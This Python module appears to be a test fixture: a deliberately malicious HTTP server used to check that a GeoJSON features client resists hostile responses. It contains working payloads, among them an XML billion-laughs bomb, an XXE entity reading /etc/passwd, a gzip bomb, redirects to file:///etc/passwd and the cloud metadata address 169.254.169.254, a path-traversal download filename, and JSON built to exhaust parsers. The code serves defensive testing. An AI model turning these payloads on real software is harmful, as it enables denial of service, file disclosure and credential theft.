"""A server that means harm: bombs, endless answers, and links and redirects that lead credentials astray.

Each path is one attack, see `ATTACKS`. `stranger` is a second server on another port; what arrives there stands in
``stranger.record`` with its headers. Nothing here is harmful to a client that limits size, depth, pages, time and
origin. It does not do: TLS, attacks on the client's parser beyond those listed.
"""

from __future__ import annotations

import json
import time
import zlib
from http.server import BaseHTTPRequestHandler
from typing import Any, Self

if __package__:
    from .standin_server import Reply, Request, Standin, answers_every_method, run_as_program
else:
    from standin_server import (  # type: ignore[import-not-found,no-redef]
        Reply,
        Request,
        Standin,
        answers_every_method,
        run_as_program,
    )

ATTACKS = {
    "/xml/bomb": "entities that grow to gigabytes (billion laughs)",
    "/xml/external": "an external entity that reads a local file",
    "/xml/external-dtd": "a DTD to be fetched from the stranger",
    "/gzip": "a small body that unpacks to `size` bytes (default 1 GB)",
    "/endless": "a body without end, in chunks",
    "/slow": "a body that comes a byte a second",
    "/next/self": "a page whose next link is itself",
    "/next/chain": "a chain of pages without end, each with one feature",
    "/next/elsewhere": "a next link to another port",
    "/next/file": "a next link with the scheme file",
    "/redirect/elsewhere": "307 to another port",
    "/redirect/loop": "302 to itself",
    "/redirect/file": "302 to a local file",
    "/redirect/metadata": "302 to a link-local address",
    "/created/elsewhere": "201 whose Location is at another port",
    "/json/deep": "100 000 nested arrays",
    "/json/long": "one string of 300 MB",
    "/json/nan": "NaN and Infinity",
    "/json/nul": "U+0000 in a text",
    "/json/surrogate": "a lone surrogate in a text",
    "/json/doubled": "an object that names a member twice",
    "/json/digits": "an integer of 100 000 digits",
    "/file": "a file name that climbs out of the folder",
    "/html": "a login page with status 200",
    "/type": "JSON sent as text/html",
    "/latin": "a body that is no UTF-8",
    "/empty": "status 200 and nothing",
    "/length": "a Content-Length far larger than the body",
}
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(12))
_PAGE: dict[str, Any] = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "id": "1",
            "geometry": {"type": "Point", "coordinates": [113.2, 23.0]},
            "properties": {},
        }
    ],
}


class Stranger(Standin):
    """Another origin: it takes whatever it gets and writes it down."""

    def answer(self, request: Request) -> Reply:
        return Reply.json(_PAGE)


@answers_every_method
class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 60

    def serve(self) -> None:
        server: Malicious = self.server.standin  # type: ignore[attr-defined]
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        path, _, query = self.path.partition("?")
        server.seen.append((self.command, self.path, dict(self.headers.items())))
        try:
            if path == "/endless":
                self._endless()
            elif path == "/slow":
                self._slow()
            elif path == "/json/long":
                self._long(300_000_000)
            elif path == "/length":
                self._start(200, {"Content-Type": "application/json", "Content-Length": str(10**15)})
                self.wfile.write(b"[")
                self.close_connection = True
            else:
                self._reply(server.attack(path, query))
        except OSError:
            self.close_connection = True

    def _start(self, status: int, headers: dict[str, str]) -> None:
        self.send_response_only(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()

    def _reply(self, reply: Reply) -> None:
        self._start(reply.status, reply.headers | {"Content-Length": str(len(reply.body))})
        self.wfile.write(reply.body)

    def _endless(self) -> None:
        self._start(200, {"Content-Type": "application/json", "Transfer-Encoding": "chunked"})
        piece = b" " * 65536
        while True:
            self.wfile.write(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")

    def _slow(self) -> None:
        self._start(200, {"Content-Type": "application/json", "Content-Length": "100000"})
        for _ in range(100000):
            self.wfile.write(b" ")
            self.wfile.flush()
            time.sleep(1)

    def _long(self, size: int) -> None:
        self._start(200, {"Content-Type": "application/json", "Content-Length": str(size + 2)})
        self.wfile.write(b'"')
        piece = b"x" * 1_000_000
        for _ in range(size // len(piece)):
            self.wfile.write(piece)
        self.wfile.write(b'"')

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing: the record is what tests look at."""


class Malicious(Standin):
    """The harmful server and the stranger: ``with Malicious() as server: server.root + "/gzip"``."""

    handler = _Handler

    def __init__(self, port: int = 0) -> None:
        super().__init__(port)
        self.seen: list[tuple[str, str, dict[str, str]]] = []
        self.stranger = Stranger()

    def start(self) -> Self:
        self.stranger.start()
        return super().start()

    def stop(self) -> None:
        super().stop()
        self.stranger.stop()

    def answer(self, request: Request) -> Reply:
        return self.attack(request.path, "")

    def attack(self, path: str, query: str) -> Reply:
        group, _, name = path.strip("/").partition("/")
        attacks = {
            "xml": self._xml,
            "next": self._next,
            "redirect": self._redirect,
            "json": self._json,
        }
        if group in attacks:
            return attacks[group](name, query)
        match path:
            case "/gzip":
                size = int(query.removeprefix("size=") or 10**9)
                return Reply(
                    200, _bomb(size), {"Content-Type": "application/json", "Content-Encoding": "gzip"}
                )
            case "/created/elsewhere":
                return Reply(201, b"", {"Location": f"{self.stranger.root}/items/1"})
            case "/file":
                headers = {
                    "Content-Type": "application/zip",
                    "Content-Disposition": 'attachment; filename="../../../tmp/evil.gpkg"; '
                    "filename*=UTF-8''..%2F..%2Ftmp%2Fevil.gpkg",
                }
                return Reply(200, b"PK", headers)
            case "/html":
                page = "<html><body><form action='/login'><input name='password'></form></body></html>"
                return Reply(200, page.encode(), {"Content-Type": "text/html;charset=utf-8"})
            case "/type":
                return Reply(200, json.dumps(_PAGE).encode(), {"Content-Type": "text/html"})
            case "/latin":
                body = '{"type":"FeatureCollection","features":[],"名":"城市"}'.encode("gb18030")
                return Reply(200, body, {"Content-Type": "application/json"})
            case "/empty":
                return Reply(200, b"", {"Content-Type": "application/json"})
        return Reply(404, b"not found", {"Content-Type": "text/plain"})

    def _xml(self, name: str, query: str) -> Reply:
        doctypes = {
            "bomb": f"<!DOCTYPE r [{_LAUGHS}]>",
            "external": '<!DOCTYPE r [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>',
            "external-dtd": f'<!DOCTYPE r SYSTEM "{self.stranger.root}/evil.dtd" [<!ENTITY l11 "x">]>',
        }
        text = f'<?xml version="1.0"?>{doctypes[name]}<r>&l11;</r>'
        return Reply(200, text.encode(), {"Content-Type": "application/xml"})

    def _next(self, name: str, query: str) -> Reply:
        number = int(query.removeprefix("page=") or 0) if query.startswith("page=") else 0
        targets = {
            "self": f"{self.root}/next/self",
            "chain": f"{self.root}/next/chain?page={number + 1}",
            "elsewhere": f"{self.stranger.root}/items",
            "file": "file:///etc/passwd",
        }
        links = [{"rel": "next", "type": "application/geo+json", "href": targets[name]}]
        feature = _PAGE["features"][0] | {"id": str(number)}
        return Reply.json(_PAGE | {"features": [feature], "links": links})

    def _redirect(self, name: str, query: str) -> Reply:
        targets = {
            "elsewhere": (307, f"{self.stranger.root}/items"),
            "loop": (302, f"{self.root}/redirect/loop"),
            "file": (302, "file:///etc/passwd"),
            "metadata": (302, "http://169.254.169.254/latest/meta-data/"),
        }
        status, target = targets[name]
        return Reply(status, b"", {"Location": target})

    def _json(self, name: str, query: str) -> Reply:
        bodies = {
            "deep": b"[" * 100_000 + b"]" * 100_000,
            "nan": b'{"type":"FeatureCollection","features":[],"x":NaN,"y":-Infinity}',
            "nul": json.dumps({"name": "a\x00b"}).encode(),
            "surrogate": b'{"name":"\\ud83c"}',
            "doubled": b'{"features":[],"features":[1]}',
            "digits": b'{"n":' + b"9" * 100_000 + b"}",
        }
        return Reply(200, bodies[name], {"Content-Type": "application/json"})


def _bomb(size: int) -> bytes:
    """Pack `size` blanks without having them in memory at once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = b" " * 1_000_000
    packed = [packer.compress(piece) for _ in range(size // len(piece))]
    return b"".join([*packed, packer.flush()])


def unpacked_start(body: bytes, size: int) -> bytes:
    """Unpack the beginning of a gzip body: for tests that the bomb is one."""
    return zlib.decompressobj(31).decompress(body, size)


if __name__ == "__main__":
    run_as_program(lambda port, settings: Malicious(port))
